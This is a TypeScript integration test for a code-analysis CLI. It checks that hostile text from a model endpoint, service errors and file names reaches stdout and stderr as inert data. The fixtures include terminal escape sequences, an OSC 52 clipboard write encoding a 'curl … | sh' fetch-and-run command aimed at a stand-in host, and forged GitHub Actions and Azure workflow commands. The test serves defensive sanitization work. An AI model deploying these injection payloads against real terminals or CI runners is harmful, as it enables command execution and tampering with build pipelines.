/**
 * Hostile input: output is data, not control. The CLI runs as CI runs it (stdout and stderr piped)
 * against the hostile stand-in, whose findings and error messages carry escape sequences (screen
 * clear, cursor moves, OSC 52 clipboard writes, 8-bit C1 introducers, BEL, a lone CR) and GitHub
 * Actions / Azure Pipelines workflow commands, over a workspace whose file names carry an ESC and a
 * newline. Nothing of it may act on a terminal or a CI runner; the JSON and SARIF reports still carry
 * every original character.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { cliEnv, parseReport, runChorus, tempDir, writeTree, type CliRun } from '../integration/cli/helpers';
import { converseBody, promptText, startHostileBedrock, type HostileBedrock, type HostileCall } from './hostileBedrock';

const ESC = '\u001b';
const BEL = '\u0007';
// Generated per run, so a pass cannot come from a string the code happens to know.
const maskValue = randomBytes(6).toString('hex');
const clipboard = `${ESC}]52;c;${Buffer.from(`curl -s http://127.0.0.1:9/${maskValue} | sh`).toString('base64')}${BEL}`;

/** What the "model" says: every class of control sequence, and workflow commands on their own lines. */
const MESSAGE =
  `Unchecked input${ESC}[2J${ESC}[H${ESC}[31mred${ESC}[0m${clipboard}${ESC}]0;owned${ESC}\\` +
  ` \u009b2J \u009d52;c;eA==\u009c \u0085 \u202eevil\u202c` +
  `\n::add-mask::${maskValue}\n  ::stop-commands::${maskValue}\n::error file=x.js,line=1::forged\n##vso[task.setvariable variable=x]1\rrewritten`;
const SUGGESTION = `fixed();${clipboard}\n::error::from-suggestion`;
/** What the "service" says when it refuses: the same sequences in an error message. */
const ERROR_MESSAGE = `Malformed input${ESC}[2J${clipboard}\n::add-mask::${maskValue}\n::error::service-forged \u009b31m${BEL}`;

const FILES: Record<string, string> = {
  'src/app.js': 'const x = load();\nif (x == 1) {\n  eval(x);\n}\n',
  [`src/${ESC}[2Jscreen${ESC}]52;c;ZXZpbA==${BEL}.js`]: 'function run(a) {\n  if (a) stop();\n}\n',
  'src/line\n::error::forged-by-name.js': 'function go(b) {\n  return b ? 1 : 2;\n}\n',
  'src/::add-mask::named.js': 'keep();\n',
  // `::end` once crashed the run inside secretlint's profiler, which parses marks named after the path.
  'src/tail::end||x.js': 'done();\n',
};
const PATHS = Object.keys(FILES);
/** Names with a control character or line break could forge the prompt's file markers: never sent, skipped. */
// eslint-disable-next-line no-control-regex -- the control characters are what is looked for
const UNSAFE = PATHS.filter((p) => /[\u0000-\u001f\u007f-\u009f]/.test(p));
const SENT = PATHS.filter((p) => !UNSAFE.includes(p));

/** A file is in a batch when its FILE marker is in the prompt (the path escaped as the prompt does). */
function inBatch(call: HostileCall, path: string): boolean {
  return promptText(call).includes(`path="${path.replace(/["\\]/g, (c) => `\\${c}`)}"`);
}

/** One hostile finding for every file of the batch, and one whose ruleId is hostile (the schema refuses it). */
function hostileFindings(call: HostileCall): unknown {
  const files = PATHS.filter((p) => inBatch(call, p));
  const findings: Record<string, unknown>[] = files.map((file) => ({ file, startLine: 1, endLine: 1, severity: 'error', ruleId: 'no-eval', message: MESSAGE, suggestion: SUGGESTION }));
  if (files[0]) findings.push({ file: files[0], startLine: 1, endLine: 1, severity: 'warning', ruleId: `x${ESC}[2J::add-mask::`, message: 'hostile rule id' });
  return converseBody({ toolInput: { findings } });
}

/** The CI's view: no byte a terminal or runner acts on, in either stream. */
function assertInert(run: CliRun): void {
  for (const [name, text] of [['stdout', run.stdout], ['stderr', run.stderr]] as const) {
    assert.ok(!text.includes(ESC), `${name} holds an ESC:\n${JSON.stringify(text)}`);
    assert.ok(!text.includes(BEL), `${name} holds a BEL`);
    assert.doesNotMatch(text, /[\u0080-\u009f]/, `${name} holds a C1 control`);
    assert.doesNotMatch(text, /\r(?!\n)/, `${name} holds a lone CR`);
    assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/, `${name} holds a bidi control`);
    for (const line of text.split('\n')) {
      assert.doesNotMatch(line, /^\s*::/, `${name} has a workflow command line: ${JSON.stringify(line)}`);
      assert.doesNotMatch(line, /##(?:vso)?\[/i, `${name} has an Azure/legacy command: ${JSON.stringify(line)}`);
    }
  }
}

describe('hostile input: model, service and file-name text reaches the terminal as data (CLI)', function () {
  this.timeout(180_000);
  let server: HostileBedrock;
  let mode: 'findings' | 'errors' = 'findings';
  const dirs: string[] = [];
  const dir = (path: string) => (dirs.push(path), path);
  let workspace: string;
  // Piped streams, no color variables: any ESC in the output would be someone else's.
  const env = () => cliEnv(dir(tempDir('cache')), { FORCE_COLOR: undefined, NO_COLOR: undefined });

  before(async () => {
    server = await startHostileBedrock((call) =>
      mode === 'errors' ? { error: 'ValidationException', status: 400, message: ERROR_MESSAGE } : { json: hostileFindings(call) },
    );
    workspace = dir(writeTree(tempDir('hostile-out'), FILES));
    for (const path of PATHS) assert.ok(existsSync(join(workspace, path)), `this file system keeps the name ${JSON.stringify(path)}`);
  });
  after(async () => {
    await server.close();
    const { rmSync } = await import('node:fs');
    dirs.forEach((d) => rmSync(d, { recursive: true, force: true }));
  });
  beforeEach(() => (server.calls.length = 0));

  it('--format text and the --verbose log: findings with escapes and workflow commands are shown, inert', async () => {
    mode = 'findings';
    const run = await runChorus(['analyze', workspace, '--endpoint', server.url, '--format', 'text', '--verbose'], env());
    assert.equal(run.code, 0, run.stderr);
    assert.ok(server.calls.length > 0, 'the hostile server was asked');
    assertInert(run);
    // Shown, not dropped: the reader sees that something was there.
    assert.ok(run.stdout.includes('Unchecked input␛[2J␛[H'), run.stdout);
    assert.ok(run.stdout.includes(`» ::add-mask::${maskValue}`), 'the workflow command is visible, with its marker');
    assert.ok(run.stdout.includes('screen␛]52;c;ZXZpbA==␇.js'), 'the ESC in the file name is shown');
    assert.ok(run.stdout.includes('src/line␊::error::forged-by-name.js'), 'the newline in the file name is shown');
    assert.ok(!run.stdout.includes('hostile rule id'), 'a finding with a hostile rule id is refused by the schema');
  });

  it('--format json and sarif carry the original characters exactly (they escape by format)', async () => {
    mode = 'findings';
    const run = await runChorus(['analyze', workspace, '--endpoint', server.url, '--format', 'json'], env());
    assert.equal(run.code, 0, run.stderr);
    assertInert({ ...run, stdout: '' });
    assert.ok(!run.stdout.includes(ESC), 'JSON escapes control characters (\\u001b), it does not emit them');
    const report = parseReport(run);
    assert.deepEqual(report.files.map((f) => f.path).sort(), [...PATHS].sort(), 'every name round-trips exactly');
    assert.equal(UNSAFE.length, 2, 'the workspace holds names with an ESC and a newline');
    for (const f of report.files) {
      if (UNSAFE.includes(f.path)) assert.equal(f.status, 'skipped', `${JSON.stringify(f.path)} is never sent`);
      else assert.equal(f.status, 'analyzed', JSON.stringify([f.path, f.reason]));
    }
    const findings = report.files.flatMap((f) => f.findings) as { message: string; suggestion?: string; file: string }[];
    assert.equal(findings.length, SENT.length, JSON.stringify(report.files.map((f) => [f.path, f.status, f.reason])));
    for (const f of findings) {
      assert.equal(f.message, MESSAGE);
      assert.equal(f.suggestion, SUGGESTION);
    }

    const sarif = await runChorus(['analyze', workspace, '--endpoint', server.url, '--format', 'sarif'], env());
    assert.equal(sarif.code, 0, sarif.stderr);
    const doc = JSON.parse(sarif.stdout) as { runs: { results: { message: { text: string } }[] }[] };
    const texts = doc.runs[0]!.results.map((r) => r.message.text);
    assert.ok(texts.length >= SENT.length && texts.filter((t) => t === MESSAGE).length === SENT.length, JSON.stringify(texts));
  });

  it('a service error laden with escapes: failed files, progress and log lines stay inert', async () => {
    mode = 'errors';
    const run = await runChorus(['analyze', workspace, '--endpoint', server.url, '--format', 'text', '--verbose'], env());
    assert.equal(run.code, 3, `every file sent failed: ${run.stderr}`);
    assert.ok(server.calls.length > 0);
    assertInert(run);
    assert.match(run.stdout, /Not analyzed/);
    assert.ok(`${run.stdout}${run.stderr}`.includes('Malformed input␛[2J'), `the service's message is shown:\n${run.stdout}\n${run.stderr}`);
    // The JSON report keeps the service's words as they were.
    const json = parseReport(await runChorus(['analyze', workspace, '--endpoint', server.url, '--format', 'json'], env()));
    assert.deepEqual(json.files.map((f) => [f.path, f.status]).sort(), PATHS.map((p) => [p, UNSAFE.includes(p) ? 'skipped' : 'failed']).sort());
    assert.ok(json.files.some((f) => f.reason?.includes(`Malformed input${ESC}[2J`)), JSON.stringify(json.files.map((f) => f.reason)));
  });

  it("the CLI's own error lines (analyze, score) quote a hostile folder name inertly", async () => {
    const missing = join(workspace, `gone${ESC}]52;c;ZXZpbA==${BEL}\n::add-mask::${maskValue}`);
    const run = await runChorus(['analyze', missing, '--endpoint', server.url], env());
    assert.equal(run.code, 2, run.stderr);
    assertInert(run);
    assert.match(run.stderr, /is not a folder/);
    const score = await runChorus(['score', missing], env());
    assert.notEqual(score.code, 0);
    assertInert(score);
    assert.match(score.stderr, /not a directory/);
  });

  it('chorus score prints the hostile file names inert (its --json keeps them exact)', async () => {
    // The names show in the "most complex functions" list: each of those files has one.
    const text = await runChorus(['score', workspace], env());
    assert.equal(text.code, 0, text.stderr);
    assertInert(text);
    for (const shown of ['src/line␊::error::forged-by-name.js', 'src/␛[2Jscreen␛]52;c;ZXZpbA==␇.js']) assert.ok(text.stdout.includes(shown), text.stdout);
    const json = await runChorus(['score', workspace, '--json'], env());
    const paths = (JSON.parse(json.stdout) as { files: { path: string }[] }).files.map((f) => f.path).sort();
    assert.deepEqual(paths, [...PATHS].sort());
  });
});
